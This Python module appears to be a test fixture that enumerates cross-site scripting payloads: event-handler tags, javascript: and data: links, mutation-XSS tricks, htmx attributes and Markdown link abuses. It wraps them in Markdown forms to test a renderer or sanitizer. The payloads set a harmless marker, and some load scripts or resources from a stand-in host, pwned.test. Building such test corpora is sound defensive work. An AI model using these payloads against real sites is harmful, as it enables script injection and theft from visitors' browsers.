"""What people write to make somebody else's browser do something: a compact list, times what it is wrapped in."""

RUN = "ran=1"
# Whatever loads, leads or is drawn from this name is seen by the test.
AWAY = "//pwned.test/x"

SHORT = (
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg/onload={RUN}>", f"<body onload={RUN}>",
    f"<b onmouseover={RUN}>b</b>", f'"autofocus onfocus="{RUN}', f"'autofocus onfocus='{RUN}", f'"><svg onload={RUN}>',
    f"'><svg onload={RUN}>", f"</a><svg onload={RUN}>", f"--><svg onload={RUN}>", f"]]><svg onload={RUN}>",
    f"{{{{{RUN}}}}}", f"${{{RUN}}}", "{{7*7}}{% raw %}", f"javascript:{RUN}", f"`-{RUN}-`", f"';{RUN}//", f'";{RUN}//',
    f"\\';{RUN}//", f"</h1><img src={AWAY}>", f"<link href={AWAY}>", f"<i hx-get={AWAY} hx-trigger=load>",
    "<i hx-on:load=ran=1>", "<base href=//pwned.test>", f"&lt;svg onload={RUN}&gt;", "%3Csvg onload=ran=1%3E",
    "\u202esvg<\u202c", "<\u200bsvg onload=ran=1>", "＜script＞ran=1＜/script＞",
)  # fmt: skip
LONG = (
    f"</title></textarea></script><svg onload={RUN}>", f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>", f"<object data={AWAY}></object>", f"<embed src={AWAY}>",
    f"<form action={AWAY}><button autofocus>x</form>", f"<style>@import '{AWAY}';*{{background:url({AWAY})}}</style>",
    f"<p style='background:url({AWAY})'>", f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<video autoplay onplay={RUN}><source onerror={RUN} src=x></video>", f"<details open ontoggle={RUN}>x</details>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror={RUN}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,{RUN}'/></svg>",
    f"<a href='java&#x0A;script:{RUN}'>x</a>", f"<div hx-get={AWAY} hx-trigger=load hx-target=body>x</div>",
    f"<div data-hx-post={AWAY} data-hx-trigger=revealed>x</div>", f"<template><script>{RUN}</script></template>",
    f"<input autofocus onfocus={RUN}>", f"<marquee onstart={RUN}>x</marquee>", f"<portal src={AWAY}></portal>",
    f"<script src={AWAY}></script>", f"<script type=module>{RUN}</script>", f"<img srcset='{AWAY} 1x'>",
)  # fmt: skip
MARKDOWN = (
    f"[x](javascript:{RUN})", f"[x](JaVaScRiPt:{RUN})", f"[x](java\tscript:{RUN})", f"[x](javascript&colon;{RUN})",
    f"[x](&#106;avascript:{RUN})", f"[x](data:text/html,<script>{RUN}</script>)", f"[x](vbscript:{RUN})",
    f"<javascript:{RUN}>", f"[x]: javascript:{RUN}\n\n[x]", f"![x]({AWAY})", f"![x](x\"onerror={RUN}//)",
    f"![x](https:{AWAY})", f'[x](https:{AWAY} "x\\" onmouseover={RUN} y=\\"")', f"[x](<https://a\"onmouseover={RUN}//>)",
    f"```html\n<script>{RUN}</script>\n```", f"```\"onload={RUN}\nx\n```", f"    <script>{RUN}</script>",
    f"a|b\n-|-\n<img src=x onerror={RUN}>|[x](javascript:{RUN})", f"<!-- --!><img src=x onerror={RUN}>",
    f"<![CDATA[<script>{RUN}</script>]]>", f"<?x <script>{RUN}</script> ?>", f"[<img src=x onerror={RUN}>](/x)",
    f"[x](/\\pwned.test \"'><svg onload={RUN}>\")", f"~~<script>{RUN}</script>~~", f"# <svg/onload={RUN}>",
    f"\\<script>{RUN}</script>", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"<script\n>{RUN}</script\n>",
    f"<x{RUN}@pwned.test>", f"[a](b \"c)<img src=x onerror={RUN}>\")",
)  # fmt: skip
WRAPPED = ("{}", "> {}", "- {}", "**{}**", "| {} |\n|---|\n| {} |", "`x` {}", "<div>\n\n{}\n\n</div>")


def texts(longest: int) -> list[str]:
    """Every payload in every wrapper, in as few texts as take them."""
    pages = [""]
    for payload in every():
        if len(pages[-1]) + len(payload) + 8 > longest:
            pages.append("")
        pages[-1] += payload + "\n\n"
    return pages


def every() -> list[str]:
    return [wrap.format(payload, payload) for payload in (*SHORT, *LONG, *MARKDOWN) for wrap in WRAPPED]


def lines(longest: int) -> list[str]:
    """The payloads that fit into one line of this length, in as few lines as take them."""
    found = [""]
    for payload in (*SHORT, *LONG):
        if len(payload) <= longest:
            if len(found[-1]) + len(payload) + 1 > longest:
                found.append("")
            found[-1] += payload + " "
    return [line.strip() for line in found]
